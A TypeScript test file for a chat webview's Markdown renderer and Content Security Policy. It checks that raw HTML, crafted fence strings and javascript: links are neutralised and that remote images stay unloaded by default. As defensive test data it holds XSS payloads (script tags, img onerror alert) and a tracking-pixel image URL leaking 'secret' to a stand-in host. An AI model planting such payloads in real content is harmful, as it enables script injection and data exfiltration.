// The webview's Markdown renderer must not let a reply run script nor load
// from the network; code blocks get their language, actions and colours.

import * as assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { renderMarkdown } from '../media/markdown';
import { contextLabel } from '../src/context';
import { contentSecurityPolicy } from '../src/csp';

describe('renderMarkdown', () => {
	it('renders Markdown', () => {
		const html = renderMarkdown('# Title\n\nSome **bold** and `code`.\n\n```go\nfmt.Println("hi")\n```\n');
		assert.match(html, /<h1>Title<\/h1>/);
		assert.match(html, /<strong>bold<\/strong>/);
		assert.match(html, /<code>code<\/code>/);
		assert.match(html, /<pre><code class="hljs language-go">fmt.Println\(<span class="hljs-string">&quot;hi&quot;<\/span>\)/);
	});

	it('gives a code block its language and its actions, and highlights it', () => {
		const html = renderMarkdown('```go title=main.go\npackage main\n\nfunc main() {}\n```\n');
		assert.match(html, /^<div class="code-block" data-language="go"><div class="code-head"><span class="code-lang">go<\/span>/);
		assert.deepEqual([...html.matchAll(/data-action="(\w+)"/g)].map((m) => m[1]), ['copy', 'insert', 'apply']);
		assert.match(html, /<span class="hljs-keyword">package<\/span> main/);
		assert.match(html, /<span class="hljs-keyword">func<\/span>/);
	});

	it('escapes a code block of a language it does not bundle, and labels a block without one "text"', () => {
		const odd = renderMarkdown('```brainfun\n<b>x</b> ++\n```\n');
		assert.match(odd, /<span class="code-lang">brainfun<\/span>/);
		assert.match(odd, /<pre><code class="hljs language-brainfun">&lt;b&gt;x&lt;\/b&gt; \+\+\n<\/code><\/pre>/);
		const plain = renderMarkdown('```\nplain\n```\n');
		assert.match(plain, /<span class="code-lang">text<\/span>/);
		assert.match(plain, /<pre><code class="hljs">plain\n<\/code><\/pre>/);
		// A crafted info string stays text.
		const crafted = renderMarkdown('```"><img src=x onerror=alert(1)>\nx\n```\n');
		assert.doesNotMatch(crafted, /<img/);
	});

	it('shows an image from the network as a link unless remote images are allowed', () => {
		const text = 'See ![a pixel](https://evil.example/p.png?leak=secret) and ![inline](data:image/png;base64,iVBORw0KGgo=)';
		const blocked = renderMarkdown(text);
		assert.doesNotMatch(blocked, /<img src="https:/);
		assert.match(blocked, /<a class="remote-image" href="https:\/\/evil.example\/p.png\?leak=secret" title="Image not loaded: [^"]*" rel="noopener noreferrer">a pixel<\/a>/);
		assert.match(blocked, /<img src="data:image\/png;base64,iVBORw0KGgo=" alt="inline">/, 'an inline data: image is no request');
		const allowed = renderMarkdown(text, { remoteImages: true });
		assert.match(allowed, /<img src="https:\/\/evil.example\/p.png\?leak=secret" alt="a pixel">/);
	});

	it('escapes raw HTML', () => {
		const html = renderMarkdown('<script>alert(1)</script>\n\n<img src=x onerror="alert(2)">');
		assert.doesNotMatch(html, /<script/);
		assert.doesNotMatch(html, /<img/);
		assert.match(html, /&lt;script&gt;alert\(1\)&lt;\/script&gt;/);
	});

	it('drops script links', () => {
		const html = renderMarkdown('[click](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) [ok](https://example.com)');
		assert.doesNotMatch(html, /href="javascript:/);
		assert.doesNotMatch(html, /href="data:/);
		assert.match(html, /<a href="https:\/\/example.com" rel="noopener noreferrer">ok<\/a>/);
	});

	it('renders a reply cut mid code block', () => {
		const html = renderMarkdown('Here:\n\n```js\nconst a = 1;');
		assert.match(html, /<pre><code class="hljs language-js"><span class="hljs-keyword">const<\/span> a = <span class="hljs-number">1<\/span>;/);
	});
});

describe('contextLabel', () => {
	it('names a file and its lines', () => {
		const range = (a: number, b: number, endChar = 3) => ({ start: { line: a, character: 0 }, end: { line: b, character: endChar } });
		assert.equal(contextLabel({ uri: 'file:///w/src/main.go', text: '', range: range(9, 19) }), 'main.go:10-20');
		assert.equal(contextLabel({ uri: 'file:///w/a%20b.ts', text: '', range: range(4, 4) }), 'a b.ts:5');
		// A selection that ends at the start of a line does not name that line.
		assert.equal(contextLabel({ uri: 'file:///w/a.ts', text: '', range: range(1, 3, 0) }), 'a.ts:2-3');
		assert.equal(contextLabel({ uri: 'file:///w/x.py', text: '' }), 'x.py');
		assert.equal(contextLabel({ uri: 'untitled:Untitled-1', text: '' }), 'Untitled-1');
	});
});

describe('contentSecurityPolicy', () => {
	const directives = (csp: string) => new Map(csp.split('; ').map((d) => [d.split(' ')[0], d.split(' ').slice(1)]));

	it('lets the webview load no image from the network by default', () => {
		const csp = directives(contentSecurityPolicy('https://webview.example', 'abc', false));
		assert.deepEqual(csp.get('img-src'), ['https://webview.example', 'data:']);
		assert.deepEqual(csp.get('default-src'), ["'none'"]);
		assert.deepEqual(csp.get('script-src'), ["'nonce-abc'"]);
	});

	it('lets it load https: images once the user allows them', () => {
		const csp = directives(contentSecurityPolicy('https://webview.example', 'abc', true));
		assert.deepEqual(csp.get('img-src'), ['https://webview.example', 'data:', 'https:']);
		assert.deepEqual(csp.get('script-src'), ["'nonce-abc'"], 'scripts stay as they were');
	});
});
